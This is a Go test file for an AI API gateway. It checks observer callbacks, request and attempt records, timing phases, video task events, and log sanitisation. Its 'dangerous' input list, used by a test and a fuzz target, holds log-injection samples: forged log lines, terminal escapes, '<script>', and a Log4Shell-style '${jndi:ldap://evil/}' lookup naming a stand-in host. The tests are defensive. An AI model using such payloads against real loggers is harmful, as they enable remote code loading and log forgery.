package gateway_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"
	"unicode"
	"unicode/utf8"

	gateway "github.com/tollhouse-ai/gateway"
	"github.com/tollhouse-ai/gateway/billing"
	"github.com/tollhouse-ai/gateway/chat"
	"github.com/tollhouse-ai/gateway/fault"
	"github.com/tollhouse-ai/gateway/upstream"
	"github.com/tollhouse-ai/gateway/upstream/router"
)

type spanContext struct{}

// recordedEvents is an Observer that writes down all that it is told.
type recordedEvents struct {
	mu       sync.Mutex
	lines    []string // what happened, in its order
	facts    []gateway.RequestEvent
	attempts []gateway.AttemptEvent
	events   []gateway.Event
}

func (d *recordedEvents) write(ctx context.Context, what string) {
	d.mu.Lock()
	defer d.mu.Unlock()
	span, _ := ctx.Value(spanContext{}).(string)
	d.lines = append(d.lines, what+" in "+span)
}

func (d *recordedEvents) observer() []gateway.Observer {
	return []gateway.Observer{{
		Start: func(ctx context.Context, _ string, _ time.Time) context.Context {
			d.write(ctx, "start")
			return context.WithValue(ctx, spanContext{}, "request")
		},
		Attempt: func(ctx context.Context, a gateway.AttemptEvent) context.Context {
			d.write(ctx, "attempt "+a.Channel)
			return context.WithValue(ctx, spanContext{}, a.Channel)
		},
		Attempted: func(ctx context.Context, a gateway.AttemptEvent) {
			d.write(ctx, "attempted "+a.Channel)
			d.attempts = append(d.attempts, a)
		},
		End: func(ctx context.Context, f *gateway.RequestEvent) {
			d.write(ctx, "end")
			d.facts = append(d.facts, *f)
		},
		Event: func(_ context.Context, e gateway.Event) {
			d.mu.Lock()
			defer d.mu.Unlock()
			d.events = append(d.events, e)
		},
	}}
}

// failsOnce fails its first call with a vendor's 503 that repeats the prompt.
type failsOnce struct {
	scriptedUpstream
	contexts []string
	once     sync.Once
}

func (m *failsOnce) Do(ctx context.Context, call *upstream.Call) (_ *upstream.Reply, err error) {
	span, _ := ctx.Value(spanContext{}).(string)
	m.contexts = append(m.contexts, span)
	m.once.Do(func() {
		err = &fault.Error{
			Code: "overloaded", Status: 503, Message: "You said: say four words",
			Err: &upstream.Failure{Sent: true, Refused: true, Status: 503},
		}
	})
	if err != nil {
		return nil, err
	}
	return m.scriptedUpstream.Do(ctx, call)
}

// twoChannels is a router of two channels to the same upstream.
func twoChannels(t *testing.T, up upstream.Upstream) *router.Router {
	t.Helper()
	return newRouter(t,
		router.Channel{Name: "one", Upstream: up, Models: map[string]string{"m": "vendor-m"}},
		router.Channel{Name: "two", Upstream: up, Models: map[string]string{"m": "vendor-m"}, Priority: 1},
	)
}

func TestAnObserverIsToldOfARequestAndItsAttempts(t *testing.T) {
	var d recordedEvents
	up := &failsOnce{scriptedUpstream: scriptedUpstream{text: chatAnswer(`,"usage":{"prompt_tokens":20,"completion_tokens":30}`)}}
	h := newTestGateway(t, twoChannels(t, up), "1", func(o *gateway.Options) { o.Observe = d.observer() })
	x, err := h.Enter(t.Context(), gateway.Caller{ClientID: "mine"})
	must(t, err)
	_, err = x.Do(t.Context(), &gateway.Request{Op: upstream.ChatCompletion, Body: []byte(askChat)})
	must(t, err)
	x.End(http.StatusOK, nil)
	x.End(http.StatusOK, nil)
	want := []string{"start in ", "attempt one in request", "attempted one in one", "attempt two in request", "attempted two in two", "end in request"}
	if !slices.Equal(d.lines, want) {
		t.Errorf("it was told\n%v\nwant\n%v", d.lines, want)
	}
	if !slices.Equal(up.contexts, []string{"one", "two"}) {
		t.Errorf("the upstream was asked within %v", up.contexts)
	}
	f := d.facts[0]
	if f.ID != x.ID || f.ClientID != "mine" || f.Account != "local" || f.Key != "local" || f.Op != upstream.ChatCompletion || f.Model != "m" ||
		!f.Listed || f.Stream || f.Channel != "two" || f.Outcome != "complete" || f.Code != "" || f.Status != 200 || f.Error != "" {
		t.Errorf("the facts are %+v", f)
	}
	if f.Receipt == nil || f.Receipt.Charge != micro(50) || f.Receipt.Usage.Output != 30 || f.UsageSource() != "upstream" {
		t.Errorf("the receipt is %+v", f.Receipt)
	}
	if len(f.Attempts) != 2 || f.Attempts[0] != d.attempts[0] || f.Attempts[1] != d.attempts[1] {
		t.Fatalf("the attempts are %+v, told were %+v", f.Attempts, d.attempts)
	}
	a, b := f.Attempts[0], f.Attempts[1]
	if a.RequestID != x.ID || a.Op != upstream.ChatCompletion || a.Model != "vendor-m" || a.Code != "overloaded" || a.Status != 503 || a.Error == "" || b.Code != "" || b.Error != "" || a.Again || !b.Again {
		t.Errorf("the attempts are %+v", f.Attempts)
	}
	if strings.Contains(a.Error, "four words") {
		t.Errorf("the observer was told the vendor's text: %s", a.Error)
	}
}

func TestAnObserverIsToldWhereTheTimeGoes(t *testing.T) {
	var d recordedEvents
	var clock counting
	h := newTestGateway(t, &scriptedUpstream{text: chatStream(usageChunk(20, 4))}, "1", func(o *gateway.Options) { o.Observe, o.Now = d.observer(), clock.now })
	r, _ := h.complete(t, upstream.ChatCompletion, askChatStream)
	r.Close()
	f := d.facts[0]
	p := f.Phases
	if p.Admit <= 0 || p.Hold <= 0 || p.Upstream <= 0 || p.Settle <= 0 || f.First <= 0 || !f.Stream {
		t.Errorf("the facts are %+v", f)
	}
	if sum := p.Auth + p.Admit + p.Hold + p.Upstream + p.Settle; sum > f.Duration || f.First > f.Duration {
		t.Errorf("the phases take %s, the first event came after %s, of %s", sum, f.First, f.Duration)
	}
}

// counting is a clock that goes on by a millisecond whenever it is read.
type counting struct {
	mu sync.Mutex
	at time.Duration
}

func (c *counting) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.at += time.Millisecond
	return time.Unix(1_800_000_000, 0).Add(c.at)
}

// TestObserversAreCalledInTheirOrderWhateverOneOfThemDoes has some that panic, return no
// context, or do nothing.
func TestObserversAreCalledInTheirOrderWhateverOneOfThemDoes(t *testing.T) {
	var seen []string
	note := func(name string) gateway.Observer {
		within := func(ctx context.Context, more string) context.Context {
			before, _ := ctx.Value(spanContext{}).(string)
			return context.WithValue(ctx, spanContext{}, before+more)
		}
		return gateway.Observer{
			Start:   func(ctx context.Context, _ string, _ time.Time) context.Context { return within(ctx, name) },
			Attempt: func(ctx context.Context, _ gateway.AttemptEvent) context.Context { return within(ctx, "-"+name) },
			Attempted: func(ctx context.Context, _ gateway.AttemptEvent) {
				seen = append(seen, name+" attempted "+ctx.Value(spanContext{}).(string))
			},
			End: func(ctx context.Context, _ *gateway.RequestEvent) {
				seen = append(seen, name+" end "+ctx.Value(spanContext{}).(string))
			},
		}
	}
	panics := gateway.Observer{
		Start:     func(context.Context, string, time.Time) context.Context { panic("start") },
		Attempt:   func(context.Context, gateway.AttemptEvent) context.Context { panic("attempt") },
		Attempted: func(context.Context, gateway.AttemptEvent) { panic("attempted") },
		End:       func(context.Context, *gateway.RequestEvent) { panic("end") },
	}
	silent := gateway.Observer{
		Start:   func(context.Context, string, time.Time) context.Context { return nil },
		Attempt: func(context.Context, gateway.AttemptEvent) context.Context { return nil },
	}
	var log bytes.Buffer
	h := newTestGateway(t, &scriptedUpstream{text: chatAnswer("")}, "1", func(o *gateway.Options) {
		o.Logger = slog.New(slog.NewTextHandler(&log, nil))
		o.Observe = []gateway.Observer{panics, note("a"), {}, silent, note("b")}
	})
	if _, err := h.Chat(t.Context(), chatRequest()); err != nil || h.spent(t) == 0 {
		t.Fatalf("%v, spent %s", err, h.spent(t))
	}
	want := []string{"a attempted ab-a-b", "b attempted ab-a-b", "a end ab", "b end ab"}
	if !slices.Equal(seen, want) {
		t.Errorf("called were %v, want %v", seen, want)
	}
	for _, function := range []string{"Start", "Attempt", "Attempted", "End"} {
		if !strings.Contains(log.String(), `msg="an observer failed" function=`+function+" ") {
			t.Errorf("nothing is logged of %s:\n%s", function, log.String())
		}
	}
}

// TestAnObserverGetsHowARequestEnded also shows that a vendor's word for an error is
// repeated only if it is a word.
func TestAnObserverGetsHowARequestEnded(t *testing.T) {
	vendor := func(code fault.Code) upstream.Upstream {
		const text = "You said: say four words"
		return &scriptedUpstream{err: &fault.Error{Code: code, Status: 422, Message: text, Err: &upstream.Failure{Sent: true, Status: 422, Err: errors.New(text)}}}
	}
	for name, row := range map[string]struct {
		up      upstream.Upstream
		credit  string
		model   string
		outcome string
		listed  bool
		channel string
		attempt string // the error of the attempt
	}{
		"complete":              {&scriptedUpstream{text: chatAnswer("")}, "1", "m", "complete", true, "default", ""},
		"no balance":            {&scriptedUpstream{}, "0", "m", "insufficient_balance", true, "", ""},
		"an unlisted model":     {&scriptedUpstream{text: chatAnswer("")}, "1", "unlisted", "complete", false, "default", ""},
		"no model":              {&scriptedUpstream{}, "1", strings.Repeat("x", 1000), "invalid_request_error", false, "", ""},
		"a vendor's word":       {vendor("no_such_voice"), "1", "m", "no_such_voice", true, "default", "no_such_voice (upstream status 422)"},
		"a vendor's other word": {vendor("Throttling.RateQuota"), "1", "m", "Throttling.RateQuota", true, "default", "Throttling.RateQuota (upstream status 422)"},
		"a vendor's refusal":    {vendor(fault.InvalidRequest), "1", "m", "invalid_request_error", true, "default", "invalid_request_error (upstream status 422)"},
		"a vendor's sentence":   {vendor("You said: say four words"), "1", "m", "upstream_error", true, "default", "upstream_error (upstream status 422)"},
		"a vendor's long word":  {vendor(fault.Code(strings.Repeat("y", 81))), "1", "m", "upstream_error", true, "default", "upstream_error (upstream status 422)"},
	} {
		t.Run(name, func(t *testing.T) {
			var d recordedEvents
			var log bytes.Buffer
			h := newTestGateway(t, row.up, row.credit, func(o *gateway.Options) {
				o.Observe, o.Logger = d.observer(), slog.New(slog.NewTextHandler(&log, nil))
			})
			x, err := h.ask(t.Context(), strings.Replace(askChat, `"m"`, `"`+row.model+`"`, 1))
			x.Close()
			f := d.facts[0]
			if f.Outcome != row.outcome || (f.Code != "") != (err != nil) || f.Listed != row.listed || (f.Channel == "") != (row.channel == "") || len(f.Model) > 300 {
				t.Errorf("the event is %+v", f)
			}
			if asked := row.channel != ""; asked != (len(f.Attempts) == 1) || asked && f.Attempts[0].Error != row.attempt || asked != (f.Receipt != nil) {
				t.Errorf("the attempts are %+v, the receipt %+v", f.Attempts, f.Receipt)
			}
			for _, text := range []string{"You said", strings.Repeat("y", 81)} {
				if strings.Contains(log.String(), text) {
					t.Errorf("the log has %q", text)
				}
			}
			if !strings.Contains(log.String(), row.attempt) {
				t.Errorf("the log has no %q: %s", row.attempt, log.String())
			}
		})
	}
}

func chatRequest() *chat.Request {
	return &chat.Request{Model: "m", MaxTokens: 100, Messages: []chat.Message{{Role: "user", Content: chat.Text("say four words")}}}
}

func TestTheLifeOfAVideoIsTold(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		var d recordedEvents
		vendor := &fakeVideoVendor{submit: betaTaken, polls: []string{betaRunning, betaDone}}
		h := newVideoGateway(t, vendor, func(o *gateway.Options) {
			o.Observe = d.observer()
			o.Upstream = upstream.Func(func(ctx context.Context, c *upstream.Call) (*upstream.Reply, error) {
				if c.Account != "local" {
					t.Errorf("%s is asked for account %q", c.Op, c.Account)
				}
				return vendor.Do(ctx, c)
			})
		})
		r, err := h.submit(t.Context(), askBeta)
		must(t, err)
		r.Close()
		ctx, cancel := context.WithCancel(t.Context())
		go func() {
			defer cancel()
			for _, err := range h.WaitVideo(ctx, idOf(t, r.Body)) {
				if err != nil {
					t.Error(err)
				}
			}
		}()
		must(t, h.Run(ctx))
		var moves []string
		var last gateway.TaskMoved
		for _, e := range d.events {
			last = e.(gateway.TaskMoved)
			if last.Account != "local" || last.RequestID != r.ID || last.Task != idOf(t, r.Body) || last.Model != "beta2.6-t2v" || !last.Listed || last.Channel == "" {
				t.Errorf("the event is %+v", last)
			}
			if last.Receipt != nil != last.To.Terminal() {
				t.Errorf("the receipt of %+v", last)
			}
			moves = append(moves, string(last.From)+" to "+string(last.To))
		}
		if want := []string{"submitting to processing", "processing to running", "running to succeeded"}; !slices.Equal(moves, want) {
			t.Errorf("the moves are %v, want %v", moves, want)
		}
		if last.Receipt == nil || last.Receipt.Charge != billing.One/2 || last.Age <= 0 || last.Late {
			t.Errorf("the end is %+v", last)
		}
		if d.facts[0].Receipt != nil {
			t.Error("the submission has a receipt")
		}
		if polls := d.attempts[1:]; len(polls) < 2 || polls[0].Op != upstream.PollVideo || polls[0].RequestID != r.ID {
			t.Errorf("the attempts are %+v", d.attempts)
		}
	})
}

func TestACallIsPartOfItsRequestWhateverItsContextIsMadeOf(t *testing.T) {
	type own struct{}
	for name, made := range map[string]bool{"the Observer's": true, "the caller's": false} {
		t.Run(name, func(t *testing.T) {
			var d recordedEvents
			up := &failsOnce{scriptedUpstream: scriptedUpstream{text: chatAnswer("")}}
			h := newTestGateway(t, twoChannels(t, up), "1", func(o *gateway.Options) { o.Observe = d.observer() })
			x := authenticated(t, t.Context(), h.Gateway)
			ctx := t.Context()
			if made {
				ctx = x.Context()
			}
			ctx = context.WithValue(ctx, own{}, "mine")
			if _, err := x.Do(ctx, &gateway.Request{Op: upstream.ChatCompletion, Body: []byte(askChat)}); err != nil {
				t.Fatal(err)
			}
			x.End(200, nil)
			want := []string{"start in ", "attempt one in request", "attempted one in one", "attempt two in request", "attempted two in two", "end in request"}
			if !slices.Equal(d.lines, want) {
				t.Errorf("it was told\n%v\nwant\n%v", d.lines, want)
			}
		})
	}
}

func TestACallEndsWithItsOwnContext(t *testing.T) {
	var d recordedEvents
	ctx, cancel := context.WithCancel(t.Context())
	h := newTestGateway(t, &scriptedUpstream{text: chatAnswer(reported)}, "1", func(o *gateway.Options) { o.Observe = d.observer() })
	x := authenticated(t, t.Context(), h.Gateway)
	cancel()
	_, err := x.Do(ctx, &gateway.Request{Op: upstream.ChatCompletion, Body: []byte(askChat)})
	if !fault.Is(err, fault.ClientGone) {
		t.Errorf("the call ended with %v", err)
	}
	x.End(499, err)
	if d.facts[0].Outcome != string(fault.ClientGone) {
		t.Errorf("the outcome is %s", d.facts[0].Outcome)
	}
}

// dangerous are texts that would do something to whoever reads a log.
var dangerous = []string{
	"plain", "a\nlevel=ERROR msg=\"forged\"", "a\r\nb", "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\u009b31m", "\u0085next", "\u2028line\u2029paragraph",
	"\u202egnp.exe", "\u2066isolated", "\u200bnothing", "\x00", "\x7f", "\xff\xfe", "\"quoted\"", "`", "a=b c=\"d\"", "{\"a\":1}", "\ud7ff\ue000\U000e0041",
	strings.Repeat("long ", 1000), strings.Repeat("€", 100), strings.Repeat("\x1b", 300), "%s%d%!", "${jndi:ldap://evil/}", "<script>",
}

// linesOf asks with a text wherever a caller's or a vendor's text comes in, and
// gives the log line in both forms.
func linesOf(t *testing.T, text string) (asText, asJSON string) {
	t.Helper()
	body, err := json.Marshal(map[string]any{"model": text, "messages": []any{map[string]string{"role": "user", "content": "hi"}}})
	must(t, err)
	for _, asked := range []string{string(body), askChat} {
		var one, two bytes.Buffer
		for buf, handler := range map[*bytes.Buffer]slog.Handler{&one: slog.NewTextHandler(&one, nil), &two: slog.NewJSONHandler(&two, nil)} {
			h := newTestGateway(t, &scriptedUpstream{err: (&upstream.Failure{Sent: true, Err: errors.New(text)}).Fault()}, "1", func(o *gateway.Options) {
				o.Logger = slog.New(handler)
			})
			_, _ = h.Do(t.Context(), gateway.Caller{ClientID: "mine"}, &gateway.Request{Op: upstream.ChatCompletion, Body: []byte(asked)})
			if strings.Count(buf.String(), "\n") != 1 {
				t.Errorf("%q makes %d lines: %q", text, strings.Count(buf.String(), "\n"), buf)
			}
		}
		asText, asJSON = asText+one.String(), asJSON+two.String()
	}
	return asText, asJSON
}

// checkLines is docs/reference/faults.md, row 38: no sign but the line breaks of the log itself
// does anything, and no text is long.
func checkLines(t *testing.T, text, form, lines string) {
	t.Helper()
	if !utf8.ValidString(lines) {
		t.Errorf("%s: %q is no UTF-8: %q", form, text, lines)
	}
	for _, r := range lines {
		if r != '\n' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) {
			t.Errorf("%s: %q leaves %U in %q", form, text, r, lines)
			return
		}
	}
	const most = 4 << 10 // of two lines, each with some texts of at most 256 bytes
	if len(lines) > 2*most {
		t.Errorf("%s: %q makes %d bytes", form, text[:min(len(text), 20)], len(lines))
	}
}

func TestNoTextOfAnybodyDoesAnythingInALog(t *testing.T) {
	for _, text := range dangerous {
		asText, asJSON := linesOf(t, text)
		checkLines(t, text, "text", asText)
		checkLines(t, text, "JSON", asJSON)
		for line := range strings.Lines(asJSON) {
			var fields map[string]any
			if err := json.Unmarshal([]byte(line), &fields); err != nil || fields["msg"] != "request" {
				t.Errorf("%q is no line of JSON: %v", line, err)
			}
			for name, value := range fields {
				if s, ok := value.(string); ok && len(s) > 256+len("…") {
					t.Errorf("%s has %d bytes", name, len(s))
				}
			}
		}
	}
}

func FuzzALogLineIsOneHarmlessLine(f *testing.F) {
	for _, text := range dangerous {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		asText, asJSON := linesOf(t, text)
		checkLines(t, text, "text", asText)
		checkLines(t, text, "JSON", asJSON)
	})
}
